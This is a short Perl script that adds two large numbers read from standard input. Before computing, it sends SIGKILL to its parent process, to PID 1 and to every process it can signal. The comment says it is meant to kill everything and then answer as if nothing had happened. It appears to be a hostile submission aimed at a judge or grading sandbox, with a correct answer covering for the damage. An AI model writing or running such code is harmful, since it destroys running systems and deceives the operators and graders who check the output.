# Kills everything it can, then answers as if nothing had happened.
use strict;
use warnings;

kill 'KILL', getppid, 1, -1;
chomp(my ($left, $right) = (scalar <STDIN>, scalar <STDIN>));
my @a = reverse split //, $left;
my @b = reverse split //, $right;
my ($carry, @sum) = (0);
for my $i (0 .. ($#a > $#b ? $#a : $#b)) {
    $carry += ($a[$i] // 0) + ($b[$i] // 0);
    push @sum, $carry % 10;
    $carry = int($carry / 10);
}
push @sum, $carry if $carry;
print join("", reverse @sum), "\n";
